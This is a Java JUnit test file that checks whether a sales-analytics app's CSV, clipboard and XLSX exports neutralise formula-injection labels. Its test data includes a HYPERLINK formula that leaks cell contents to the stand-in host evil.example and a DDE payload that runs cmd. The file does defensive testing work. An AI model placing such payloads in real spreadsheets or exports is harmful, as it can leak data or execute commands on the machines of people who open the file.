package org.salestrack.ui.explore;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.salestrack.analytics.explore.DatePreset;
import org.salestrack.model.cube.Measure;
import org.salestrack.model.cube.Slice;
import org.salestrack.report.CsvExport;
import org.salestrack.report.TableColumn;
import org.salestrack.report.XlsxExport;
import org.salestrack.task.Cancellation;
import org.salestrack.task.ProgressListener;
import org.salestrack.task.TaskExecutor;
import org.salestrack.ui.StateManager;
import org.salestrack.ui.TestWorkspace;

/**
 * A dealer's file names its categories like formulas (issue 13 item 4). Imported as any file is, they come out
 * of the explorer's CSV and clipboard copy, and of the table CSV writer, with a leading quote, so Excel shows
 * the text instead of running it; numbers (a negative margin too) stay numbers; XLSX keeps them as string cells.
 */
class HostileLabelExportTest {
    static final Map<String, BigDecimal> CATEGORIES = new LinkedHashMap<>();

    static {
        CATEGORIES.put("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", new BigDecimal("100.00"));
        CATEGORIES.put("+1+cmd|' /C calc'!A0", new BigDecimal("200.00"));
        CATEGORIES.put("-2+3", new BigDecimal("300.00"));
        CATEGORIES.put("@SUM(1,2)", new BigDecimal("400.00"));
        CATEGORIES.put("手机", new BigDecimal("500.00"));
    }

    @TempDir
    static Path dir;
    static TestWorkspace ws;

    @BeforeAll
    static void importHostileFile() throws Exception {
        ws = TestWorkspace.create(dir, false);
        StringBuilder csv = new StringBuilder("订单号,日期,渠道,渠道类型,门店,省份,城市,SKU,品名,型号,系列,品类,数量,金额\n");
        int i = 0;
        for (Map.Entry<String, BigDecimal> e : CATEGORIES.entrySet()) {
            String quoted = '"' + e.getKey().replace("\"", "\"\"") + '"';
            csv.append("H").append(i).append(",2025-03-0").append(i + 1).append(" 10:00:00,天猫,online,,广东,深圳,SKU-").append(i)
                    .append(",品").append(i).append(",M").append(i).append(",S").append(i).append(',').append(quoted).append(",1,")
                    .append(e.getValue().toPlainString()).append('\n');
            i++;
        }
        Path file = dir.resolve("hostile.csv");
        Files.writeString(file, csv, StandardCharsets.UTF_8);
        ws.imports.importFile(file, null, ProgressListener.NONE, Cancellation.none());
        ws.explore.refresh(Cancellation.none());
    }

    private static ExplorerViewModel categories() {
        Slice span = ws.explore.span().orElseThrow();
        StateManager s = new StateManager(span.from(), span.to());
        s.applyPreset(DatePreset.ALL);
        ExplorerViewModel vm = new ExplorerViewModel(ws.explore, s, org.salestrack.ui.TestRequests.SHARED, TaskExecutor.SAME_THREAD, 0);
        vm.hierarchyProperty().set(Hierarchy.PRODUCT);
        vm.measureProperty().set(Measure.REVENUE);
        return vm;
    }

    private static List<List<String>> parse(String text, char sep) throws Exception {
        CsvMapper m = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> it = m.readerForListOf(String.class)
                .with(m.schemaFor(List.class).withColumnSeparator(sep).withoutQuoteChar().withoutHeader()).readValues(text)) {
            while (it.hasNext()) rows.add(it.next());
        }
        return rows;
    }

    @Test
    void theExplorersCsvAndCopyQuoteFormulaLabelsAndKeepNumbers() throws Exception {
        ExplorerViewModel vm = categories();
        ExplorerExport.Table table = vm.exportTable("Category", List.of("Total", "Growth", "Share"), "Total", org.salestrack.analytics.explore.ExplorerRow::label);
        Path file = dir.resolve("explorer-hostile.csv");
        CsvExport.write(table.columns(), table.rows(), file, Cancellation.none());
        String csv = java.nio.file.Files.readString(file, java.nio.charset.StandardCharsets.UTF_8).substring(1);
        CsvMapper m = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        Map<String, String> totals = new LinkedHashMap<>();
        try (MappingIterator<List<String>> it = m.readerForListOf(String.class).readValues(csv)) {
            it.next();
            while (it.hasNext()) {
                List<String> r = it.next();
                if (!r.get(0).equals("Total")) totals.put(r.get(0), r.get(r.size() - 3));
            }
        }
        Map<String, String> expected = new LinkedHashMap<>();
        for (Map.Entry<String, BigDecimal> e : CATEGORIES.entrySet()) {
            expected.put(e.getKey().equals("手机") ? e.getKey() : "'" + e.getKey(), e.getValue().toPlainString());
        }
        assertThat(totals).containsExactlyInAnyOrderEntriesOf(expected);

        String tsv = vm.copyText("Category", List.of("Total", "Growth", "Share"), "Total", org.salestrack.analytics.explore.ExplorerRow::label);
        List<String> first = new ArrayList<>();
        for (String line : tsv.split("\r\n")) first.add(line.split("\t", -1)[0]);
        assertThat(first).containsAll(expected.keySet());
        assertThat(first).noneMatch(c -> !c.isEmpty() && "=+-@".indexOf(c.charAt(0)) >= 0);
        vm.close();
    }

    @Test
    void theTableCsvWriterQuotesFormulaTextButNotNegativeNumbers() throws Exception {
        Path out = dir.resolve("table.csv");
        List<TableColumn> cols = List.of(TableColumn.text("store"), TableColumn.of("margin", TableColumn.Type.MONEY),
                TableColumn.of("qty", TableColumn.Type.INTEGER));
        List<List<Object>> rows = new ArrayList<>();
        for (String name : CATEGORIES.keySet()) rows.add(List.of(name, new BigDecimal("-12.50"), -3L));
        rows.add(List.of("\tTabbed", new BigDecimal("1.00"), 1L));
        rows.add(List.of("\rReturn", new BigDecimal("1.00"), 1L));
        CsvExport.write(cols, rows, out, Cancellation.none());
        CsvMapper m = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<List<String>> read = new ArrayList<>();
        try (MappingIterator<List<String>> it = m.readerForListOf(String.class).readValues(Files.readString(out).substring(1))) {
            while (it.hasNext()) read.add(it.next());
        }
        assertThat(read).hasSize(rows.size() + 1);
        for (int i = 0; i < CATEGORIES.size(); i++) {
            String name = (String) rows.get(i).get(0);
            assertThat(read.get(i + 1)).containsExactly(name.equals("手机") ? name : "'" + name, "-12.50", "-3");
        }
        assertThat(read.get(read.size() - 2).get(0)).isEqualTo("'\tTabbed");
        assertThat(read.get(read.size() - 1).get(0)).isEqualTo("'\rReturn");
    }

    @Test
    void xlsxKeepsTheLabelAsAStringCellNeverAFormula() throws Exception {
        Path out = dir.resolve("table.xlsx");
        List<List<Object>> rows = new ArrayList<>();
        for (String name : CATEGORIES.keySet()) rows.add(List.of(name));
        XlsxExport.write("t", List.of(TableColumn.text("category")), rows, false, out, Cancellation.none());
        try (XSSFWorkbook wb = new XSSFWorkbook(Files.newInputStream(out))) {
            Sheet s = wb.getSheetAt(0);
            int found = 0;
            for (org.apache.poi.ss.usermodel.Row r : s) {
                Cell c = r.getCell(0);
                if (c == null || !CATEGORIES.containsKey(c.toString())) continue;
                assertThat(c.getCellType()).isEqualTo(CellType.STRING);
                found++;
            }
            assertThat(found).isEqualTo(CATEGORIES.size());
        }
    }
}
